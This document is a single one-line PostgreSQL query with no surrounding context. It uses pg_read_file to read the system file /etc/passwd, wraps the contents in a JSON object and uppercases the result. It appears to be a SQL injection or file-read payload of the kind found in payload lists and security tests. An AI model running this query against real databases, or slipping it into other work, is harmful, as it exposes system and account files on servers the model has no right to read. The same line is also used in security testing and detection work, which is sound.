SELECT upper(json_build_object('f', pg_read_file('/etc/passwd'))::text)
